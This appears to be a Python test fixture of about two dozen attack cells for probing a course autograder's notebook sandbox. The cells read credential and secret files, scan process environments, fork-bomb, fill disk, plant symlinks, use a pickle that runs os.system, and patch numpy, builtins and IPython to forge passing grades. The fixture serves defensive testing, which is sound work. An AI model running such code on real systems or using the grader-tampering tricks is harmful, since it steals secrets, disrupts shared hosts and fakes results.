"""One attack per entry: code cells added to the honest blank tiny notebook.

Each attack's cells are appended after the student's cells (so they may redefine the
student's names); the grader's probe still follows them. ``Ctx`` carries what the test side
planted (host paths, secrets) so the attacks can aim at them. An attack prints ``LEAKED:``
(built at run time, so that the source itself never contains it) only when it really got
something; the tests look for it in the outputs.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass


@dataclass(frozen=True)
class Ctx:
    repo: str  # the project checkout on the host
    host_secret_file: str  # a host file with `secret` inside (another job's file, say)
    secret: str  # also set as an env var of the grading process
    env_name: str
    seed_text: str  # the job seed the test forces (decimal)
    host_marker: str  # a host path that must never be created
    host_notebook: str  # a host .ipynb containing `secret`, target of planted links


LEAK = 'LEAK = "LEA" + "KED:"\n'


@dataclass(frozen=True)
class Attack:
    name: str
    cells: Callable[[Ctx], list[str]]
    uses_mnist: bool = False


def _read_files(paths: str) -> str:
    return (
        LEAK
        + f"""
import glob, os
for pattern in {paths}:
    for p in glob.glob(pattern, recursive=True)[:200]:
        try:
            with open(p, "rb") as f:
                print(LEAK, p, f.read(200))
        except Exception as e:
            print("blocked", p, type(e).__name__)
print("done")
"""
    )


ATTACKS: list[Attack] = [
    Attack("read_shadow", lambda c: [_read_files(repr(["/etc/shadow", "/etc/gshadow"]))]),
    Attack(
        "read_reference",
        lambda c: [
            _read_files(repr([c.repo + "/reference/**/*.py"]))
            + f"""
import sys
sys.path.insert(0, {c.repo!r})
try:
    from reference import softmax
    print(LEAK, "imported reference")
except Exception as e:
    print("blocked import", type(e).__name__)
for mod in ("grader.specs", "grader.engine", "grader.engine.pipeline"):
    try:
        __import__(mod)
        print(LEAK, mod)
    except Exception as e:
        print("blocked", mod, type(e).__name__)
"""
        ],
    ),
    Attack(
        "read_solutions",
        lambda c: [
            _read_files(repr([c.repo + "/solutions/*.ipynb", c.repo + "/grader/specs/*.py"]))
            + """
hits = 0
for root in ("/", "/work", "/opt", "/tmp", "/job"):
    for dirpath, dirs, files in os.walk(root):
        if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")):
            dirs[:] = []
            continue
        for fn in files:
            if fn.endswith(".ipynb"):
                try:
                    text = open(os.path.join(dirpath, fn), errors="ignore").read()
                    if "### BEGIN " + "SOLUTION" in text:
                        hits += 1
                        print(LEAK, dirpath, fn)
                except Exception:
                    pass
print("solution files found:", hits)
"""
        ],
    ),
    Attack(
        "hidden_seed",
        lambda c: [
            LEAK
            + f"""
import os
seed = {c.seed_text[:10]!r} + {c.seed_text[10:]!r}  # never whole in the source
found = 0
for root in ("/job", "/tmp", "/opt", "/proc/self", "/data"):
    for dirpath, dirs, files in os.walk(root):
        if dirpath.startswith("/proc/self/task"):
            dirs[:] = []
        for fn in files:
            p = os.path.join(dirpath, fn)
            try:
                with open(p, "rb") as f:
                    if seed.encode() in f.read(1 << 20):
                        found += 1
                        print(LEAK, p)
            except Exception:
                pass
for k, v in os.environ.items():
    if seed in v:
        print(LEAK, "env", k)
print("scanned; found", found)
print("trusted dirs visible:", [p for p in os.listdir("/tmp") if p.startswith("dlgrader")])
"""
        ],
    ),
    Attack(
        "other_job_files",
        lambda c: [
            _read_files(
                repr(
                    [
                        c.host_secret_file,
                        "/tmp/dlgrader-job-*/**",
                        "/root/.local/state/dl-course-grader/**",
                        "/proc/*/root/tmp/**",
                    ]
                )
            )
        ],
    ),
    Attack(
        "env_vars",
        lambda c: [
            LEAK
            + f"""
import os
name, secret = {c.env_name!r}, {c.secret[:5]!r} + {c.secret[5:]!r}
if name in os.environ or any(secret in v for v in os.environ.values()):
    print(LEAK, "own environ")
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            data = open(f"/proc/{{pid}}/environ", "rb").read()
            if secret.encode() in data:
                print(LEAK, "environ of", pid)
        except Exception as e:
            print("blocked", pid, type(e).__name__)
print(sorted(os.environ))
"""
        ],
    ),
    Attack(
        "network",
        lambda c: [
            LEAK
            + """
import socket
for host, port in (("1.1.1.1", 53), ("pypi.org", 443), ("10.0.2.2", 80), ("127.0.0.1", 22)):
    try:
        s = socket.create_connection((host, port), timeout=2)
        print(LEAK, "connected", host, port)
        s.close()
    except Exception as e:
        print("blocked", host, port, type(e).__name__)
"""
        ],
    ),
    Attack(
        "fork_bomb",
        lambda c: [
            """
import os
children = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        children += 1
except OSError as e:
    print("fork refused after", children, type(e).__name__)
"""
        ],
    ),
    Attack(
        "memory_bomb",
        lambda c: [
            """
import numpy as np
hog = []
while True:
    hog.append(np.ones(50_000_000))  # 400 MB each, touched
"""
        ],
    ),
    Attack(
        "forked_memory",  # each process under any per-process limit, together far over
        lambda c: [
            """
import os, time
kids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        hog = bytearray(400 * 1024 * 1024)
        for i in range(0, len(hog), 4096):
            hog[i] = 1
        time.sleep(60)
        os._exit(0)
    kids.append(pid)
for pid in kids:
    os.waitpid(pid, 0)
"""
        ],
    ),
    Attack("infinite_loop", lambda c: ["while True:\n    pass"]),
    Attack(
        "swallow_interrupt",
        lambda c: [
            """
import time
while True:
    try:
        time.sleep(0.05)
    except KeyboardInterrupt:
        pass
"""
        ],
    ),
    Attack("huge_output", lambda c: ['while True:\n    print("x" * 100_000)']),
    Attack(
        "fill_disk",
        lambda c: [
            """
import os
total = 0
chunk = b"\\0" * (1 << 20)
for d in ("/tmp", "/job/out", "/tmp/work", "/tmp/home"):
    for i in range(4096):
        try:
            with open(os.path.join(d, f"fill{i}"), "wb") as f:
                while True:
                    f.write(chunk)
                    total += len(chunk)
        except OSError:
            if total and i > 64:
                break
try:
    while True:
        os.write(1, chunk)  # raw fd output goes to the sandbox log, which is capped too
        total += len(chunk)
except OSError:
    pass
print("WROTE", total)
"""
        ],
    ),
    Attack(
        "forged_results",
        lambda c: [
            """
import json, os
import numpy as np
os.makedirs("/job/out/probe/0", exist_ok=True)
os.makedirs("/job/out/probe/1", exist_ok=True)
for name, value in (("status.json", {"state": "done", "score": 100}),
                    ("result.json", {"score": 3, "max_score": 3, "status": "graded"})):
    json.dump(value, open("/job/out/" + name, "w"))
np.save("/job/out/probe/0/y.npy", np.full((5, 4), 0.25))
np.save("/job/out/probe/1/y.npy", np.zeros((3, 2)))
np.save("/job/out/probe/1/dx.npy", np.zeros((3, 2)))
for i in (0, 1):
    open(f"/job/out/probe/{i}/done", "w").close()
# make the real probe unable to overwrite them or record its errors
import builtins
_open = builtins.open
def _guarded(path, *a, **k):
    if "/job/out/probe" in str(path):
        raise PermissionError("nope")
    return _open(path, *a, **k)
builtins.open = _guarded
_save = np.save
np.save = lambda *a, **k: None
"""
        ],
    ),
    Attack(
        "planted_symlinks",
        lambda c: [
            f"""
import os, signal
os.makedirs("/job/out/probe", exist_ok=True)
os.symlink({c.host_notebook!r}, "/job/out/executed.ipynb")
os.mkfifo("/job/out/status.json")
os.makedirs("/tmp/fake/0", exist_ok=True)
os.rename("/job/out/probe", "/job/out/probe-old")
os.symlink("/tmp/fake", "/job/out/probe")
os.symlink({c.host_secret_file!r}, "/tmp/fake/0/y.npy")
open("/tmp/fake/0/done", "w").close()
os.kill(os.getppid(), signal.SIGKILL)  # the runner: nothing gets rewritten
"""
        ],
    ),
    Attack(
        "nan_inf_results",
        lambda c: [
            """
import numpy as np
def softmax(x):
    return np.full(x.shape, np.nan)
class Triple:
    def forward(self, x):
        return np.full(x.shape, np.inf)
    def backward(self, dout):
        return np.full(dout.shape, -np.inf)
"""
        ],
    ),
    Attack(
        "object_and_huge_results",
        lambda c: [
            """
import numpy as np
class Liar:
    def __eq__(self, other): return True
    def __float__(self): return 0.25
def softmax(x):
    return np.array([[Liar()] * x.shape[1]] * x.shape[0], dtype=object)
class Triple:
    def forward(self, x):
        return np.broadcast_to(np.float64(0.0), (100_000, 10_000))  # 8 GB when saved
    def backward(self, dout):
        return np.empty((0,))
"""
        ],
    ),
    Attack(
        "pickled_payload",
        lambda c: [
            f"""
import os
import numpy as np
class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + {c.host_marker!r},))
def softmax(x):
    return x
class Triple:
    def forward(self, x): return x
    def backward(self, dout): return dout
_real_save = np.save
def _evil_save(path, arr, allow_pickle=False, **k):
    _real_save(path, np.array([Payload()], dtype=object), allow_pickle=True)
np.save = _evil_save
"""
        ],
    ),
    Attack("sys_exit", lambda c: ["import sys\nsys.exit(0)"]),
    Attack("os_exit", lambda c: ["import os\nos._exit(0)"]),
    Attack(
        "kill_parent",
        lambda c: ["import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"],
    ),
    Attack(
        "kill_everything",
        lambda c: [
            "import os, signal\n"
            "for target in (1, -1):\n"
            "    try:\n"
            "        os.kill(target, signal.SIGKILL)\n"
            "    except OSError as e:\n"
            "        print('refused', target, e)"
        ],
    ),
    Attack(
        "patch_numpy",
        lambda c: [
            """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.asarray = lambda a, dtype=None, **k: np.ones((5, 4)) / 4
class Always(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def softmax(x):
    return np.zeros(x.shape).view(Always)
"""
        ],
    ),
    Attack(
        "patch_builtins",
        lambda c: [
            """
import builtins
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
builtins.float = lambda *a: 0.0
builtins.exec = lambda *a, **k: None   # the probe's exec does nothing
"""
        ],
    ),
    Attack(
        "patch_ipython",
        lambda c: [
            """
ip = get_ipython()
ip.input_transformers_cleanup.append(
    lambda lines: [l for l in lines if "raise" not in l and "assert" not in l]
)
ip.showtraceback = lambda *a, **k: None
ip.events.register("pre_run_cell", lambda *a, **k: globals().update(
    softmax=lambda x: x, Triple=type("T", (), {"forward": lambda s, x: x,
                                             "backward": lambda s, d: d})))
"""
        ],
    ),
    Attack(
        "test_labels",
        lambda c: [
            LEAK
            + """
import glob, hashlib
import numpy as np
seen = []
roots = ("/data", "/job", "/tmp", "/opt", "/work")
found = [p for d in roots for p in glob.glob(d + "/**/*.npz", recursive=True)][:50]
for p in ["/data/mnist.npz", "/work/shared/data/mnist.npz"] + found:
    try:
        z = np.load(p, allow_pickle=False)
    except Exception as e:
        print("blocked", p, type(e).__name__)
        continue
    for k in z.files:
        a = z[k]
        if a.ndim == 1 and len(a) == 10000:
            for dt in (np.uint8, np.int64):
                raw = np.ascontiguousarray(a.astype(dt)).tobytes()
                seen.append(hashlib.sha256(raw).hexdigest())
print("LABEL-HASHES", seen)
def predict(x):
    return np.zeros(len(x), dtype=np.int64)
"""
        ],
        uses_mnist=True,
    ),
]

BY_NAME = {a.name: a for a in ATTACKS}
